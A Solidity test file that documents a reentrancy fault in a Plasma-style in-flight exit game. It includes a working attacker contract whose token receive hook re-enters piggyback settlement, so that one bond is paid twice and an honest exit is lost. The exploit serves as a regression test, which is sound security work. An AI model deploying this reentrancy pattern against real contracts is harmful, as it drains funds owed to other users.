// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {InFlightTestBase} from "../utils/InFlightTestBase.sol";
import {TxEncoder} from "../utils/TxEncoder.sol";
import {InFlightExitGame} from "../../src/games/InFlightExitGame.sol";
import {Position} from "../../src/lib/Position.sol";

/// @notice An ERC-777-like token: a transfer to an account that registered a receive hook (as ERC-1820 lets
///         an externally owned account do) calls that hook after the balances moved, with the caller's gas.
contract HookedToken is ERC20 {
    mapping(address account => address hook) public hookOf;

    constructor() ERC20("Hooked", "HOOK") {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function setHook(address hook) external {
        hookOf[msg.sender] = hook;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        address hook = hookOf[to];
        if (from != address(0) && hook != address(0)) ReceiveHook(hook).tokensReceived(from, to, value);
    }
}

interface ReceiveHook {
    function tokensReceived(address from, address to, uint256 value) external;
}

/// @notice Mallory's receive hook: when the vault pays her in-flight output, it challenges her own input
///         piggyback of the same exit, which settlement is about to refund, with a competitor she signed.
contract SettlementReentrant is ReceiveHook {
    InFlightExitGame internal immutable game;
    bytes internal inFlightTx;
    bytes internal competitor;
    bytes internal competitorSig;
    uint8 internal inputIndex;
    bool internal armed;
    /// @dev What the reentrant challenge answered: empty when it went through, else its revert data.
    bytes public challengeResult;
    bool public challenged;

    constructor(InFlightExitGame game_) {
        game = game_;
    }

    function arm(bytes calldata tx_, uint8 index, bytes calldata c, bytes calldata sig) external {
        inFlightTx = tx_;
        inputIndex = index;
        competitor = c;
        competitorSig = sig;
        armed = true;
    }

    function commit(address fw, bytes32 commitment) external {
        (bool ok,) = fw.call(abi.encodeWithSignature("commitChallenge(bytes32)", commitment));
        require(ok, "commit");
    }

    function tokensReceived(address, address, uint256) external {
        if (!armed) return;
        armed = false;
        try game.challengeInFlightExitInputSpent(inFlightTx, inputIndex, competitor, 0, competitorSig) {
            challenged = true;
        } catch (bytes memory reason) {
            challengeResult = reason;
        }
    }

    receive() external payable {}
}

/// @notice Promise: bonds are conserved, and honest exits are paid in full (docs/security.md 1, promises 1
///         and 4). The in-flight game settles a token's piggybacks in one loop over a bitmap it read before the
///         loop, and closes them only after it; each winning output's token push hands control to the payee.
///         A payee that challenges a later piggyback of the same exit from its receive hook is paid that
///         piggyback's bond, and the loop then refunds the same bond to its owner: `bondsHeld` is lowered twice
///         for one bond, and the next bond payout takes an honest exit's money.
contract PiggybackSettlementReentrancyTest is InFlightTestBase {
    event PayoutShort(address indexed owner, address indexed token, uint256 amount);

    address internal mallory;
    uint256 internal malloryKey;
    HookedToken internal token;
    SettlementReentrant internal thief;

    function setUp() public override {
        super.setUp();
        (mallory, malloryKey) = makeAddrAndKey("mallory");
        vm.deal(mallory, 10 ether);
        token = new HookedToken();
        thief = new SettlementReentrant(ife);
    }

    /// @dev FAULT (fails while it stands): one bond paid twice through a reentrant piggyback challenge.
    ///      1. alice deposits 1 ETH and starts a standard exit of it (bond 0.1 ETH, held by the vault);
    ///      2. mallory deposits 100 + 100 HOOK and starts an in-flight exit of a payment of both to herself
    ///         (200 HOOK); she piggybacks output 0 and input 1; her hook contract commits a challenge of input 1
    ///         with a competitor she signs herself;
    ///      3. anyone processes the HOOK queue: output 0 wins and its 200 HOOK push calls mallory's hook, which
    ///         challenges input 1 (still standing: `closed` is written after the loop) and takes its 0.02 ETH
    ///         bond; the loop then settles input 1 on the losing side and refunds the same 0.02 ETH to mallory;
    ///      4. the vault now holds 0.08 ETH of bonds for alice's 0.1 ETH bond. Alice's exit reaches the head:
    ///         her 1 ETH and the 0.01 ETH of her refund the bonds no longer cover are asked of free ETH as one
    ///         amount, found short, and dropped; her exit is closed with 1 ETH lost.
    ///      The defended outcome: input 1's bond is paid once (the reentrant challenge is refused, or it is
    ///      accepted and the loop no longer settles the piggyback it closed), and alice is paid in full.
    function test_FAULT_reentrantChallengeDuringPiggybackSettlementPaysOneBondTwice() public {
        _aliceExits();
        Ife memory f = _mallorysIfe();
        assertEq(fw.bondsHeld(), BOND + IFE_BOND + 2 * PB_BOND, "bonds of alice's exit, mallory's IFE and piggybacks");
        assertEq(address(fw).balance, 1 ether + BOND + IFE_BOND + 2 * PB_BOND, "alice's deposit and the bonds");

        uint256 mallory0 = mallory.balance;
        _process(f.txBytes, address(token), 1);
        assertEq(token.balanceOf(mallory), 200, "mallory's output paid in tokens");
        // refused, or accepted and then not settled a second time: either way input 1's bond is paid once
        assertEq(
            mallory.balance - mallory0 + address(thief).balance,
            IFE_BOND + PB_REFUND + PB_BOND,
            "mallory and her hook: the IFE bond, output 0's refund and input 1's bond once"
        );
        assertEq(fw.bondsHeld(), BOND, "only alice's bond is held");

        uint256 alice0 = alice.balance;
        vm.warp(block.timestamp + 3 * MEP);
        vm.prank(processor);
        fw.processExits(address(0), 10);
        assertEq(alice.balance, alice0 + 1 ether + BOND - BOUNTY, "alice's exit paid in full");
        assertEq(fw.bondsHeld(), 0, "every bond paid");
        assertEq(address(fw).balance, 0, "the vault keeps nothing");
        assertEq(processor.balance, PB_BOUNTY + BOUNTY, "the bounties");
    }

    /// @dev The same scenario as it runs today, to the wei, so that the damage is on record (it passes while
    ///      the fault stands and fails once it is fixed; delete it with the fix): the hook is paid input 1's
    ///      bond, mallory is refunded it as well, and alice's 1 ETH is dropped as `PayoutShort`.
    function test_FAULT_recordOfTodaysDamage_aliceLosesHerExitToTheDoublePaidBond() public {
        _aliceExits();
        Ife memory f = _mallorysIfe();
        uint256 mallory0 = mallory.balance;
        _process(f.txBytes, address(token), 1);
        assertTrue(thief.challenged(), "the reentrant challenge went through");
        assertEq(address(thief).balance, PB_BOND, "the hook was paid input 1's bond");
        assertEq(mallory.balance, mallory0 + IFE_BOND + PB_REFUND + PB_BOND, "and mallory was refunded it too");
        assertEq(fw.bondsHeld(), BOND - PB_BOND, "the books hold less than alice's bond");

        uint256 alice0 = alice.balance;
        vm.warp(block.timestamp + 3 * MEP);
        vm.expectEmit(true, true, true, true);
        emit PayoutShort(alice, address(0), 1 ether + (BOND - BOUNTY) - (BOND - PB_BOND));
        vm.prank(processor);
        fw.processExits(address(0), 10);
        assertEq(alice.balance, alice0 + BOND - PB_BOND, "alice: part of her bond, none of her 1 ETH");
        assertEq(address(fw).balance, 1 ether - BOUNTY, "her 1 ETH stays in the vault, owned by nobody");
        assertEq(fw.bondsHeld(), 0, "no bonds left");
    }

    // ---- scenario ----

    function _aliceExits() internal returns (uint256 position, bytes memory txBytes, Included memory inc) {
        (position, txBytes, inc) = _depositEth(alice, 1 ether);
        _startExit(alice, position, txBytes, inc);
    }

    function _mallorysIfe() internal returns (Ife memory f) {
        Input memory in0 = _hookDeposit(100);
        Input memory in1 = _hookDeposit(100);
        TxEncoder.Out[] memory outs = new TxEncoder.Out[](1);
        outs[0] = TxEncoder.Out(mallory, address(token), 200);
        f = _build(_two(in0, in1), outs, bytes32(0));
        _startIfe(mallory, f);
        _pbOut(mallory, f, 0);
        _pbIn(mallory, f, 1);
        // a competitor of input 1 that mallory signs herself; her hook commits to revealing it
        bytes memory c = TxEncoder.payment(in1.position, mallory, address(token), 100);
        bytes memory sig = _sign(malloryKey, c);
        thief.commit(address(fw), _txCommitment(address(thief), f.txBytes, c));
        vm.roll(block.number + 1);
        thief.arm(f.txBytes, 1, c, sig);
        vm.prank(mallory);
        token.setHook(address(thief));
    }

    function _hookDeposit(uint256 amount) internal returns (Input memory t) {
        token.mint(mallory, amount);
        t.position = fw.nextDepositBlock() * Position.BLOCK_OFFSET;
        t.txBytes = TxEncoder.deposit(mallory, address(token), amount);
        bytes[] memory txs = new bytes[](1);
        txs[0] = t.txBytes;
        (, t.inc.proof) = _tree(txs, 0);
        t.inc.timestamp = block.timestamp;
        t.ownerKey = malloryKey;
        vm.startPrank(mallory);
        token.approve(address(fw), amount);
        fw.depositErc20(address(token), amount);
        vm.stopPrank();
    }
}
